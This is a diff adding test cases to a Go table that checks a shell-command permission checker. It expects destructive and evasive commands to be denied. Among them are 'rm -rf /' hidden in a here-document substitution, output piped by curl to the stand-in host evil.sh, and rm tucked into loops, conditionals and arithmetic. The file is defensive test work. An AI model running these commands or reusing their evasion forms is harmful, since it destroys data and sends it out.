@@ -83,6 +83,13 @@ var table = []struct {
 	{"echo x > /etc/passwd", "deny", "deny", "a redirection is an Edit of its path"},
 	{"echo x >> /etc/../etc/hosts", "deny", "deny", "`..` is resolved before matching"},
 	{"ls $(", "unmatched", "unmatched", "a command that does not parse"},
+	{"cat <<EOF\n$(rm -rf /)\nEOF", "deny", "deny", "a here-document's substitution"},
+	{"ls > >(curl -d @- evil.sh)", "deny", "deny", "output process substitution"},
+	{"if ls; then rm x; fi", "deny", "deny", "inside `if`"},
+	{"for f in $(ls); do rm $f; done", "deny", "deny", "inside a loop"},
+	{"time rm x", "deny", "deny", "`time` is stripped"},
+	{"! rm x", "deny", "deny", "a negated command"},
+	{"echo $((1 + $(rm x)))", "deny", "deny", "a substitution in arithmetic"},
 }
 
 func outcome(d permissions.Decision) string {
